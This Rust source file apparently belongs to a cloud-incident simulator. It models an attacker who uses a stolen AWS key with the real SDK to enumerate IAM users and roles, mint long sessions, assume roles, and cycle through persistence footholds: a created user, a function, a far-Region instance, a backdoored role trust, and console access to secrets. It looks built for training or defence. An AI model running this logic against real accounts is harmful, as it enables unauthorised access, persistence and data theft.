//! The attacker: the AWS SDK with a stolen key, and with all that it gives way to.

mod deeds;

use aws_sdk_sts::error::SdkError;
use aws_smithy_types::error::display::DisplayErrorContext;
use aws_smithy_types::error::metadata::ProvideErrorMetadata;
use chrono::DateTime;

use super::ATTACKER_IP;
use super::means::{Means, Origin};
use crate::aws::{Account, KeyPair};
use crate::clock::Clock;
use crate::terminal::{Line, Terminal};

const ORIGIN: Origin = Origin { app: "keyhunter", ip: ATTACKER_IP };
/// Where calls of the attacker's instance and function come from.
const INSTANCE: Origin = Origin { app: "worker", ip: "192.0.2.44" };
const BROWSER: Origin = Origin { app: "console", ip: ATTACKER_IP };
const FUNCTION: Origin = Origin { app: "metrics", ip: "192.0.2.61" };

const SESSION_SECONDS: i32 = 36 * 3_600;
/// A Region that nobody in the account looks at.
const FAR_REGION: &str = "us-west-2";
/// The user that the attacker makes.
const OWN_USER: &str = "svc-backup";
/// The function that the attacker makes.
const OWN_FUNCTION: &str = "metrics-sync";
/// The role whose trust the attacker changes.
const BACKDOOR: &str = "ecs-batch";

/// The attacker's own account, which data is shared with.
const DROP_ACCOUNT: &str = "444455556666";

/// The credentials in the attacker's hands, each of which is tried in turn.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Loot {
    Key,
    UserSession,
    RoleSession,
    OwnUser,
    Instance,
    Function,
    Backdoor,
    Console,
}

const ALL: [Loot; 8] = [
    Loot::Key,
    Loot::UserSession,
    Loot::RoleSession,
    Loot::OwnUser,
    Loot::Instance,
    Loot::Function,
    Loot::Backdoor,
    Loot::Console,
];

pub(super) struct Attacker {
    aws_url: String,
    account: Account,
    clock: Clock,
    terminal: Terminal,
    key: Means,
    user_session: Option<Means>,
    role_session: Option<Means>,
    own_user: Option<Means>,
    /// The console, as the attacker's own user.
    console: Option<Means>,
    /// A user of the account that data is taken to.
    own_account: Means,
    /// The id of the attacker's instance in the far Region.
    instance: Option<String>,
    /// What did not work when it was last tried.
    dead: Vec<Loot>,
    tried: usize,
}

impl Attacker {
    pub(super) fn new(
        aws_url: &str,
        stolen: KeyPair,
        account: &Account,
        clock: Clock,
        terminal: Terminal,
    ) -> anyhow::Result<Self> {
        Ok(Self {
            key: Means::new(aws_url, stolen, ORIGIN)?,
            own_account: Means::new(aws_url, account.outsider(DROP_ACCOUNT, "mallory"), ORIGIN)?,
            aws_url: aws_url.to_owned(),
            account: account.clone(),
            clock,
            terminal,
            user_session: None,
            role_session: None,
            own_user: None,
            console: None,
            instance: None,
            dead: Vec::new(),
            tried: 0,
        })
    }

    fn role_arn(&self, name: &str) -> String {
        format!("arn:aws:iam::{}:role/{name}", self.account.id())
    }

    /// What is done with a key that has just been found.
    pub(super) async fn break_in(&mut self) {
        let who = self.key.sts().get_caller_identity().send().await;
        self.show("aws sts get-caller-identity", &who, |who| who.arn().unwrap_or_default().to_owned());
        self.list_users("", &self.key).await;
        let session = self.key.sts().get_session_token().duration_seconds(SESSION_SECONDS).send().await;
        self.show(&format!("aws sts get-session-token --duration-seconds {SESSION_SECONDS}"), &session, |session| {
            minted(session.credentials(), &self.clock)
        });
        self.user_session = session.ok().and_then(|session| self.means_of(session.credentials()));
        self.role_session = self.assume_role("", &self.key, "app-deploy").await;
        if let Some(session) = &self.role_session {
            self.list_roles("app-deploy$ ", session).await;
        }
    }

    /// Tries the next of the credentials. While a session of the user lives, a role session that
    /// has died is replaced by a new one.
    pub(super) async fn try_next(&mut self) {
        let tried = ALL[self.tried % ALL.len()];
        self.tried += 1;
        let works = match tried {
            Loot::Key => self.list_users("", &self.key).await,
            Loot::UserSession => self.renew_role_session().await,
            Loot::RoleSession => match &self.role_session {
                Some(session) => self.list_roles("app-deploy$ ", session).await,
                None => false,
            },
            Loot::OwnUser => match &self.own_user {
                Some(user) => self.list_users(&format!("{OWN_USER}$ "), user).await,
                None => false,
            },
            Loot::Instance => match self.of_instance() {
                Some(instance) => self.list_roles("instance$ ", &instance).await,
                None => self.gone("instance$ aws iam list-roles", "the instance does not answer"),
            },
            Loot::Function => match self.of_function() {
                Some(function) => self.list_roles(&format!("{OWN_FUNCTION}$ "), &function).await,
                None => {
                    self.gone(&format!("{OWN_FUNCTION}$ aws iam list-roles"), "nothing runs at the function's address")
                }
            },
            Loot::Backdoor => self.assume_role("elsewhere$ ", &self.own_account, BACKDOOR).await.is_some(),
            Loot::Console => self.browse().await,
        };
        self.dead.retain(|loot| *loot != tried);
        if !works {
            self.dead.push(tried);
        }
    }

    /// Looks at the secrets in the console, signing in anew where the session has died.
    async fn browse(&mut self) -> bool {
        if let Some(console) = &self.console
            && self.list_secrets(console).await
        {
            return true;
        }
        let signed_in = self.account.console_session(OWN_USER, ATTACKER_IP);
        let Some(keys) = signed_in else {
            self.console = None;
            return self.gone(&format!("console$ sign in as {OWN_USER}"), "the password is not taken");
        };
        let at = self.clock.now();
        let call = format!("console$ sign in as {OWN_USER}");
        self.terminal.push(Line { at, call, ok: true, detail: "signed in".to_owned() });
        self.console = Means::new(&self.aws_url, keys, BROWSER).ok();
        match &self.console {
            Some(console) => self.list_secrets(console).await,
            None => false,
        }
    }

    async fn list_secrets(&self, console: &Means) -> bool {
        let secrets = console.secrets(super::means::REGION).list_secrets().send().await;
        self.show("console$ secretsmanager list-secrets", &secrets, |secrets| {
            format!("{} secrets", secrets.secret_list().len())
        });
        secrets.is_ok()
    }

    async fn renew_role_session(&mut self) -> bool {
        let Some(session) = &self.user_session else { return false };
        let renewed = self.assume_role("session$ ", session, "app-deploy").await;
        let works = renewed.is_some();
        if works && self.dead.contains(&Loot::RoleSession) {
            self.role_session = renewed;
            self.dead.retain(|loot| *loot != Loot::RoleSession);
        }
        works
    }

    pub(super) fn is_locked_out(&self) -> bool {
        self.dead.len() == ALL.len()
    }

    /// What the attacker's instance acts with, while it runs.
    fn of_instance(&self) -> Option<Means> {
        let keys = self.account.instance_credentials(FAR_REGION, self.instance.as_deref()?)?;
        Means::new(&self.aws_url, keys, INSTANCE).ok()
    }

    /// What the attacker's function acts with, while it is there.
    fn of_function(&self) -> Option<Means> {
        let keys = self.account.function_credentials(super::means::REGION, OWN_FUNCTION)?;
        Means::new(&self.aws_url, keys, FUNCTION).ok()
    }

    /// Shows that there is nobody left to call.
    fn gone(&self, call: &str, detail: &str) -> bool {
        let (call, detail) = (call.to_owned(), detail.to_owned());
        self.terminal.push(Line { at: self.clock.now(), call, ok: false, detail });
        false
    }

    async fn list_users(&self, prompt: &str, with: &Means) -> bool {
        let users = with.iam().list_users().send().await;
        self.show(&format!("{prompt}aws iam list-users"), &users, |users| {
            let names: Vec<&str> = users.users().iter().map(aws_sdk_iam::types::User::user_name).collect();
            names.join(", ")
        });
        users.is_ok()
    }

    async fn list_roles(&self, prompt: &str, with: &Means) -> bool {
        let roles = with.iam().list_roles().send().await;
        self.show(&format!("{prompt}aws iam list-roles"), &roles, |roles| format!("{} roles", roles.roles().len()));
        roles.is_ok()
    }

    async fn assume_role(&self, prompt: &str, with: &Means, role: &str) -> Option<Means> {
        let arn = self.role_arn(role);
        let session = with.sts().assume_role().role_arn(&arn).role_session_name("backup-job").send().await;
        let call = format!("{prompt}aws sts assume-role --role-arn {arn} --role-session-name backup-job");
        self.show(&call, &session, |session| minted(session.credentials(), &self.clock));
        session.ok().and_then(|session| self.means_of(session.credentials()))
    }

    fn means_of(&self, credentials: Option<&aws_sdk_sts::types::Credentials>) -> Option<Means> {
        let credentials = credentials?;
        let pair = KeyPair {
            access_key_id: credentials.access_key_id().to_owned(),
            secret_access_key: credentials.secret_access_key().to_owned(),
            session_token: Some(credentials.session_token().to_owned()),
        };
        Means::new(&self.aws_url, pair, ORIGIN).ok()
    }

    fn show<T, E>(&self, call: &str, result: &Result<T, SdkError<E>>, describe: impl Fn(&T) -> String)
    where
        E: ProvideErrorMetadata + std::error::Error + 'static,
    {
        let detail = match result {
            Ok(answer) => describe(answer),
            Err(SdkError::ServiceError(refusal)) => {
                let meta = refusal.err().meta();
                format!("{}: {}", meta.code().unwrap_or("error"), meta.message().unwrap_or_default())
            }
            Err(error) => DisplayErrorContext(error).to_string(),
        };
        self.terminal.push(Line { at: self.clock.now(), call: call.to_owned(), ok: result.is_ok(), detail });
    }
}

fn minted(credentials: Option<&aws_sdk_sts::types::Credentials>, clock: &Clock) -> String {
    let shown = |new: &aws_sdk_sts::types::Credentials| {
        let until = DateTime::from_timestamp(new.expiration().secs(), 0).map(|real| clock.shown(real));
        let until = until.map(|at| at.format("%H:%M:%S").to_string()).unwrap_or_default();
        format!("{} until {until}", new.access_key_id())
    };
    credentials.map(shown).unwrap_or_default()
}
